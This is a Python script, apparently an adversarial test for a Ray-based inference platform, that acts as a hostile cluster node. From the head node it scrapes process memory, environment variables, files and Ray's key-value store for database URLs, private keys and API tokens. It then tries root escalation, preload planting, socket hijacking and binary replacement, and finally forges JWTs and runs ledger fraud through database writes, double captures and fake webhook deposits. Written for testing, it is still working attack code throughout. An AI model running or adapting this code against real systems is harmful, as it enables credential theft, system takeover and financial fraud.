"""What a hostile machine of the cluster would do: a driver on it sends code to the head, which takes what it finds and tries to make money.

`python hostile.py HEAD ADDRESS LOOT NODE CONSUMER`: head's `host:port`, this machine's address, a new folder on the head for what was found, the
node that should get the money, a file with the credential of a consumer in league. It needs no more than a join gives: the address and the token.
"""

import json
import sys

ROOTS = ("/tmp", "/var/lib/gfe", "/root", "/etc", "/home", "/run", "/var/log")
SKIPPED = ("site-packages", "__pycache__", "/.git", "/lib/python", "node_modules")
MAX_FILE_BYTES = 4 << 20
MAX_MAP_BYTES = 64 << 20
MAX_MEMORY_S = 60
# Everything that looks like one of our secrets: URLs with passwords, PEM keys, keys of consumers, webhook secrets, long hexadecimal numbers.
SECRETS = rb"postgresql://[ -~]{8,200}|-----BEGIN PRIVATE KEY-----[ -~\n\\]{20,200}|gfe_live_\w{20,80}|whsec_[\w+/=]{20,60}|(?<![0-9a-f])[0-9a-f]{48,64}(?![0-9a-f])"


def who():
    import os

    lines = open("/proc/self/status").read().splitlines()
    facts = dict(line.split(":", 1) for line in lines if ":" in line)
    return {"uid": os.getuid(), "groups": os.getgroups(), "capabilities": facts["CapEff"].strip(), "host": os.uname().nodename}


def take(loot):
    """Read all that can be read; write what looks like a secret into `loot`; answer where one was refused."""
    import os
    import re
    import time

    pattern, denied = re.compile(SECRETS), {"environ": 0, "mem": 0, "files": 0}
    seen = {"environ": 0, "mem": 0, "files": 0}
    with open(f"{loot}/loot", "ab") as found:

        def keep(where, raw):
            for match in set(pattern.findall(raw)):
                found.write(where.encode() + b"\t" + match.replace(b"\n", b"\\n") + b"\n")

        for pid in filter(str.isdigit, os.listdir("/proc")):
            for what in ("environ", "cmdline"):
                try:
                    raw = open(f"/proc/{pid}/{what}", "rb").read()
                    seen["environ"] += 1
                    found.write(f"/proc/{pid}/{what}\t".encode() + raw + b"\n")
                except OSError:
                    denied["environ"] += 1
        until = time.monotonic() + MAX_MEMORY_S
        for pid in sorted(filter(str.isdigit, os.listdir("/proc")), key=int, reverse=True):
            try:
                maps = open(f"/proc/{pid}/maps").read().splitlines()
                memory = open(f"/proc/{pid}/mem", "rb", 0)
            except OSError:
                denied["mem"] += 1
                continue
            seen["mem"] += 1
            for line in maps:
                span, rights, *_ = line.split()
                first, last = (int(end, 16) for end in span.split("-"))
                if "rw" not in rights or last - first > MAX_MAP_BYTES or "shm" in line or time.monotonic() > until:
                    continue
                try:
                    memory.seek(first)
                    keep(f"/proc/{pid}/mem", memory.read(last - first))
                except (OSError, ValueError):
                    continue
        for root in ROOTS:
            for folder, folders, names in os.walk(root):
                folders[:] = [name for name in folders if not any(skipped in f"{folder}/{name}" for skipped in SKIPPED)]
                for path in (f"{folder}/{name}" for name in names):
                    try:
                        if os.path.isfile(path) and not path.startswith(loot) and os.path.getsize(path) < MAX_FILE_BYTES:
                            keep(path, open(path, "rb").read())
                            seen["files"] += 1
                    except OSError:
                        denied["files"] += 1
        # What our own processes are told: the paths in their environment are where one looks first.
        for name in ("GFE_SECRETS_DIR", "RAY_AUTH_TOKEN_PATH"):
            for raw in re.findall(rb"%s=([^\0\n]+)" % name.encode(), open(f"{loot}/loot", "rb").read()):
                for path in {raw.decode(errors="replace"), os.path.dirname(raw.decode(errors="replace"))}:
                    try:
                        for one in [path] if os.path.isfile(path) else [f"{path}/{inner}" for inner in os.listdir(path)]:
                            found.write(one.encode() + b"\t" + open(one, "rb").read() + b"\n")
                    except OSError:
                        denied["files"] += 1
    return {"denied": denied, "seen": seen}


def change(loot):
    """Try to become more than one is: answer what worked."""
    import os
    import signal
    import socket

    import serve_app

    def pid_of(*words):
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                command = open(f"/proc/{pid}/cmdline").read()
            except OSError:
                continue
            if all(word in command for word in words) and int(pid) != os.getpid():
                return int(pid)
        return None

    def write_code():
        with open(serve_app.__file__, "a") as file:
            file.write("")

    def listen_in_the_ledgers_place():
        path = [line.split()[-1] for line in open("/proc/net/unix") if "internal.sock" in line][0]
        os.unlink(path)
        socket.socket(socket.AF_UNIX).bind(path)

    def replace_haproxy():
        path = os.environ["RAY_SERVE_HAPROXY_BINARY_PATH"]
        os.replace(path, path + ".old")

    tries = {
        "become root": lambda: os.setuid(0),
        "become the ledger": lambda: os.setuid(60_900),
        "write our code": write_code,
        "write Python": lambda: open(os.path.dirname(os.__file__) + "/os.py", "a").close(),
        "plant a preload": lambda: open("/etc/ld.so.preload", "a").close(),
        "stop the ledger": lambda: os.kill(pid_of("ledger.cli", "serve"), signal.SIGSTOP),
        "stop the supervisor": lambda: os.kill(pid_of("serve_app.local.up"), signal.SIGSTOP),
        "trace the ledger": lambda: open(f"/proc/{pid_of('ledger.cli', 'serve')}/mem", "rb").close(),
        "listen in the ledger's place": listen_in_the_ledgers_place,
        "replace what starts HAProxy": replace_haproxy,
        "mount": lambda: os.listdir("/proc/1/root/root"),
    }
    worked = []
    for name, attempt in tries.items():
        try:
            attempt()
            worked.append(name)
        except Exception as refused:
            with open(f"{loot}/refused", "a") as file:
                file.write(f"{name}: {type(refused).__name__} {refused}\n")
    return worked


def mint(loot, node, consumer):
    """Try to make money with what was taken: by the database, the internal socket, the public routes. Answers what was not refused."""
    import asyncio
    import os
    import re
    import time
    import uuid

    import aiohttp
    import jwt
    import psycopg
    from cryptography.hazmat.primitives.serialization import load_pem_private_key

    raw = open(f"{loot}/loot", "rb").read()
    worked, said = [], []
    urls = sorted({one.decode(errors="replace").strip("'\"),") for one in re.findall(rb"postgresql://[^\s\0'\"<>]+", raw)})
    passwords = sorted({one.decode() for one in re.findall(rb"(?<![0-9a-f])[0-9a-f]{48}(?![0-9a-f])", raw)})[:20]
    others = [re.sub(r"//[^@]*@", f"//{role}:{password}@", url, count=1) for url in urls[:1] for role in ("postgres", "gfe_ledger", "gfe_pay") for password in ["", *passwords]]
    statements = (
        "SELECT * FROM ledger.api_key", "SELECT * FROM ledger.entry", "UPDATE ledger.account SET posted = posted + 1000000", "SET ROLE gfe_ledger_owner", "SET ROLE gfe_ledger",
        "CREATE TABLE ledger.x (y int)", "COPY (SELECT 1) TO PROGRAM 'id'", "SELECT pg_read_file('PG_VERSION')", "INSERT INTO ledger.operator VALUES (1)",
    )  # fmt: skip
    logins = []
    for url in {*urls, *others}:
        try:
            with psycopg.connect(url, connect_timeout=3, autocommit=True) as connection:
                logins.append(connection.info.user)
                tables = [row[0] for row in connection.execute("SELECT tablename FROM pg_tables WHERE schemaname = 'ledger'").fetchall()]
                for statement in (*statements, *(f"SELECT * FROM ledger.{table}" for table in tables), *(f"DELETE FROM ledger.{table}" for table in tables)):
                    try:
                        connection.execute(statement)
                        worked.append(f"{connection.info.user}: {statement}")
                    except psycopg.Error as refused:
                        said.append(f"{connection.info.user}: {statement}: {str(refused).splitlines()[0]}")
        except psycopg.Error as refused:
            said.append(f"{re.sub(r':[^@/]*@', ':…@', url)}: {str(refused).splitlines()[0]}")

    pems = set()
    for one in re.findall(rb"-----BEGIN PRIVATE KEY-----[ -~\n\\]+?-----END PRIVATE KEY-----", raw):
        try:
            load_pem_private_key(one.replace(b"\\n", b"\n"), None)
            pems.add(one.replace(b"\\n", b"\n"))
        except ValueError:  # our own pattern, found in memory
            continue
    sockets = sorted({line.split()[-1] for line in open("/proc/net/unix") if "internal.sock" in line})
    env = dict(part.split(b"=", 1) for part in re.split(rb"[\0\n]", raw) if part.startswith(b"GFE_") and b"=" in part)
    ledger = env.get(b"GFE_LEDGER_URL", b"http://127.0.0.1:8080").decode()

    def token(pem, issuer, audience, **more):
        claims = {"iss": issuer, "aud": audience, "iat": int(time.time()), "exp": int(time.time()) + 60, "jti": uuid.uuid4().hex}
        return jwt.encode(claims | more, pem, algorithm="EdDSA")

    async def everything():
        credential = open(consumer).read().strip()
        for path in sockets:
            async with aiohttp.ClientSession(connector=aiohttp.UnixConnector(path)) as http:
                for pem in pems:
                    for issuer in ("serve", "edge", "operator", "auditor"):
                        headers = {"Authorization": f"Bearer {token(pem, issuer, 'ledger-internal')}"}
                        stranger, first, second = (str(uuid.uuid4()) for _ in range(3))
                        job = {"model": "smollm2:135m", "prompt_tokens": 1000, "max_tokens": 100_000, "ttl_s": 600}
                        claimed = {"node": node, "attempt": 1, "prompt_tokens": 2**31 - 1, "completion_tokens": 2**31 - 1}
                        served = claimed | {"outcome": "succeeded", "counted_by": "platform"}
                        operations = [
                            {"op": "deposit", "person": "operator", "amount": 10**12}, {"op": "correct", "account": "operator", "amount": 10**12},
                            {"op": "capture", "id": stranger, **served},
                            {"op": "place_hold", "id": stranger, "credential": "gfe_live_00000000_x_000000", **job},
                            {"op": "place_hold", "id": str(first), "credential": credential, **job},
                            {"op": "place_hold", "id": str(second), "credential": credential, **job},
                        ]  # fmt: skip
                        ends = [
                            {"op": "capture", "id": str(first), **served}, {"op": "capture", "id": str(first), **served},  # twice
                            {"op": "void", "id": str(second), "reason": "x", "served": claimed}, {"op": "void", "id": str(second), "reason": "x", "served": claimed},
                            {"op": "capture", "id": str(second), **served},
                        ]  # fmt: skip
                        for batch in (operations, ends):
                            async with http.post("http://ledger/internal/v1/operations", json={"operations": batch}, headers=headers) as answer:
                                said.append(f"internal as {issuer}: {answer.status} {await answer.text()}")
                                if answer.status == 200:
                                    logins.append(f"internal:{issuer}")
                        for route in ("deposit", "users", "keys", "corrections", "transfer"):
                            async with http.post(f"http://ledger/internal/v1/{route}", json={}, headers=headers) as answer:
                                if answer.status < 400:
                                    worked.append(f"internal route {route} as {issuer}")
        async with aiohttp.ClientSession() as http:
            tokens = [token(pem, issuer, audience, sub=sub, sid=str(uuid.uuid4()), scope="admin jobs:write wallet:read", role="OPERATOR")
                      for pem in pems for issuer in (ledger, "serve", "gfe") for audience in ("api", "operator", "ledger-internal") for sub in ("operator", "1")]  # fmt: skip
            tries = [("POST", "/api/admin/corrections/", {"account": "gfe", "amount": "1000.00", "reason": "x"}), ("GET", "/api/admin/people/", None),
                     ("POST", "/api/payments/webhook/mock/", {"type": "deposit.succeeded", "deposit_id": "x", "amount": "1000.00", "currency": "EUR"})]  # fmt: skip
            for bearer in ["", *tokens]:
                for method, path, body in tries:
                    headers = {"Authorization": f"Bearer {bearer}"} if bearer else {}
                    async with http.request(method, ledger + path, json=body, headers=headers) as answer:
                        said.append(f"{path}: {answer.status}")
                        if answer.status < 400:
                            worked.append(f"{method} {path}")

    asyncio.run(everything())
    with open(f"{loot}/refused", "a") as file:
        file.write("\n".join(said) + "\n")
    return {"worked": worked, "logins": sorted(set(logins)), "keys": len(pems), "sockets": len(sockets), "uid": os.getuid()}


def main(head, address, loot, node, consumer):
    import os

    import ray
    from ray.util.scheduling_strategies import NodeAffinitySchedulingStrategy

    ray.init(head, namespace="gfe", _node_ip_address=address, log_to_driver=False, logging_level="error")
    top = next(one["NodeID"] for one in ray.nodes() if one["Alive"] and "node:__internal_head__" in one["Resources"])
    there = {"num_cpus": 0, "scheduling_strategy": NodeAffinitySchedulingStrategy(top, soft=False)}

    def on_head(function, *arguments, limit_s=200):
        return ray.get(ray.remote(**there)(function).remote(*arguments), timeout=limit_s)

    def make(folder):
        os.makedirs(folder, mode=0o755)

    def keep(folder, what):
        with open(f"{folder}/loot", "ab") as file:
            file.write(what)

    on_head(make, loot)
    told = {"who": on_head(who)}
    from ray.experimental.internal_kv import _internal_kv_get, _internal_kv_list

    stored = 0
    for namespace in (None, "fun", "job", "cluster", "dashboard", "session", "serve", "workflow", "package"):
        for key in _internal_kv_list(b"", namespace=namespace):
            on_head(keep, loot, b"kv\t" + key + b"\t" + (_internal_kv_get(key, namespace=namespace) or b"")[:100_000] + b"\n")
            stored += 1
    told["stored in Ray"] = stored
    told["actors"] = []
    for named in ray.util.list_named_actors(all_namespaces=True):
        try:
            actor = ray.get_actor(named["name"], namespace=named["namespace"])
            said = ray.get(actor.__ray_call__.remote(inside), timeout=20)
            on_head(keep, loot, named["name"].encode() + b"\t" + said + b"\n")
            told["actors"].append(named["name"])
        except Exception as refused:
            told["actors"].append(f"{named['name']}: {type(refused).__name__}")
    told["taken"] = on_head(take, loot)
    told["changed"] = on_head(change, loot)
    told["minted"] = on_head(mint, loot, node, consumer)
    sys.stdout.write(json.dumps(told))


def inside(actor):
    """All that an actor has: its attributes, and what these have, as far as they are ours."""
    import os

    seen, waiting, words = set(), [(actor, 0)], [repr(dict(os.environ))]
    while waiting and len(words) < 20_000:
        one, depth = waiting.pop()
        if id(one) in seen or depth > 6:
            continue
        seen.add(id(one))
        if isinstance(one, bytes | str | int | float):
            words.append(one.decode(errors="replace") if isinstance(one, bytes) else str(one))
        elif isinstance(one, dict):
            waiting += [(inner, depth + 1) for pair in one.items() for inner in pair]
        elif isinstance(one, list | tuple | set | frozenset):
            waiting += [(inner, depth + 1) for inner in one]
        else:
            if hasattr(one, "private_bytes_raw"):
                words.append(one.private_bytes_raw().hex())
            slots = [name for kind in type(one).__mro__ for name in getattr(kind, "__slots__", ())]
            inner = [getattr(one, name, None) for name in slots if isinstance(name, str)]
            waiting += [(value, depth + 1) for value in (*vars(one).values(), *inner)] if hasattr(one, "__dict__") else [(value, depth + 1) for value in inner]
    return "\n".join(words).encode()


if __name__ == "__main__":
    main(*sys.argv[1:])
